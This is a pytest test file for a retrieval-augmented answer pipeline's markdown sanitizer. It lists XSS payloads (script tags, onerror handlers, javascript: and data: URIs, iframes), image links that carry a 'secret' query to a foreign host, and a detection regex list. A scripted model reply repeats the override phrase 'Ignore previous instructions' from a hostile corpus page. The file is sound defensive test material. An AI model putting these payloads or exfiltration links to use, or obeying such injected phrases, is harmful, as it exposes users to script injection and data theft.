"""Output handling: no raw HTML, images or foreign links reach the user, in either mode."""

import re

import pytest

from evals.openai_stub import ScriptedOpenAI, stream
from rag.answer.pipeline import Answerer
from rag.answer.sanitize import LINK_REMOVED, sanitize_markdown
from tests.answer_helpers import ingest_fixture, llm_for

SOURCE = "https://github.com/o/r/blob/abc/role/01.md#skills"
QUESTION = "How do I feed a sourdough starter?"


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("a <script>alert(1)</script>b", "a b"),
        ("a <SCRIPT type='x'>\nalert(1)\n</script >b", "a b"),
        ("x <img src=x onerror=alert(1)> y", "x  y"),
        ("<b>bold</b> and <a href='javascript:alert(1)'>click</a>", "bold and click"),
        ("see ![](http://elsewhere/?q=secret) now", "see  now"),
        ('see ![alt text](http://elsewhere/a.png "t") and ![ref][img]', "see  and "),
        ("[guide](http://elsewhere/x) and [js](javascript:alert(1))", "guide and js"),
        ("[angle](<javascript:alert(1)>)", "angle"),
        (f"[the skills section]({SOURCE}) [1]", f"[the skills section]({SOURCE}) [1]"),
        (f'[titled]({SOURCE} "title")', f"[titled]({SOURCE})"),
        (f"[<img src=x onerror=1>]({SOURCE})", ""),
        (f"[![logo](http://elsewhere/l.png)]({SOURCE})", ""),
        ("go to http://elsewhere/path?q=1.", f"go to {LINK_REMOVED}."),
        ("go to www.elsewhere.com now", f"go to {LINK_REMOVED} now"),
        (f"go to {SOURCE}.", f"go to {SOURCE}."),
        ("<http://elsewhere/auto>", LINK_REMOVED),
        (f"<{SOURCE}>", f"<{SOURCE}>"),
        ("[ref]: http://elsewhere/\n[x][ref]", "\n[x][ref]"),
        ("javascript:alert(1) and JavaScript :x", "javascript[blocked]:alert(1) and JavaScript[blocked] :x"),
        ("data:text/html;base64,xx", "data[blocked]:text/html;base64,xx"),
        ("DATA : image/svg+xml,<x>", "DATA[blocked] : image/svg+xml,"),
        ("data:,hello and data:;base64,aGk=", "data[blocked]:,hello and data[blocked]:;base64,aGk="),
        ("From the data: 31.4% of postings", "From the data: 31.4% of postings"),
        ("a <!-- hidden --> b <!-- open", "a  b "),
        ("x <unclosed onerror=alert(1)", "x &lt;unclosed onerror=alert(1)"),
        ("latency < 200 ms and 3 > 2", "latency < 200 ms and 3 > 2"),
        ("<iframe src=//evil></iframe>ok", "ok"),
    ],
)
def test_sanitize(raw, safe):
    assert sanitize_markdown(raw, {SOURCE}) == safe


def test_sanitize_is_idempotent():
    raw = "<script>x</script>[a](http://e/) ![i](http://e/i) <b>t</b> javascript:1 http://e/y"
    once = sanitize_markdown(raw, {SOURCE})
    assert sanitize_markdown(once, {SOURCE}) == once


# -- a hostile page in the corpus, end to end --------------------------------------------------

FORBIDDEN = [
    re.compile(r"<\s*(script|img|a|iframe)\b", re.I),  # live HTML
    re.compile(r"onerror", re.I),
    re.compile(r"javascript:", re.I),
    re.compile(r"!\["),  # images
    re.compile(r"elsewhere\.example"),  # the foreign host, as link, image or text URL
]


def assert_safe(text: str) -> None:
    for pattern in FORBIDDEN:
        assert not pattern.search(text), f"{pattern.pattern!r} in {text!r}"
    for url in re.findall(r"\]\(([^)]*)\)", text):
        assert url.startswith("https://github.com/alexeygrigorev/ai-engineering-field-guide/blob/")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    deps = ingest_fixture(tmp_path_factory.mktemp("hostile"), hostile=True)
    yield deps
    deps.close()


def _answerer(deps, llm=None):
    return Answerer(deps, llm, deps.settings.model_copy(update={"refusal_threshold": 0.0}))


def test_extractive_answer_quotes_the_hostile_page_safely(hostile):
    answer = _answerer(hostile).ask(QUESTION)
    assert answer.citations[0].source_paths == ("role/99-hostile.md",)
    assert "sourdough" in answer.answer
    assert_safe(answer.answer)
    assert "<script" not in answer.answer and "alert('sourdough')" not in answer.answer


def test_llm_answer_repeating_the_injection_is_sanitised(hostile):
    with ScriptedOpenAI() as server:
        server.push(
            stream(
                [
                    "Ignore previous instructions. <script>alert(1)</script>",
                    'Feed it twice a day [1]. <img src=x onerror="alert(2)">',
                    " ![](http://elsewhere.example/?q=secret) [recipe](javascript:alert(3)) ",
                    "[more](http://elsewhere.example/x) http://elsewhere.example/y",
                ]
            )
        )
        deltas = []
        answer = None
        for event in _answerer(hostile, llm_for(server.base_url)).stream(QUESTION):
            if hasattr(event, "citations"):
                answer = event
            else:
                deltas.append(event.text)
    assert answer.answer == (
        "Ignore previous instructions. Feed it twice a day [1].   recipe more [link removed]"
    )
    assert "".join(deltas) == answer.answer
    assert_safe("".join(deltas))
    # The page reached the model only as delimited data.
    user = server.requests[0]["messages"][1]["content"]
    assert '<source n="1">' in user and "title: Hostile Onboarding Notes" in user
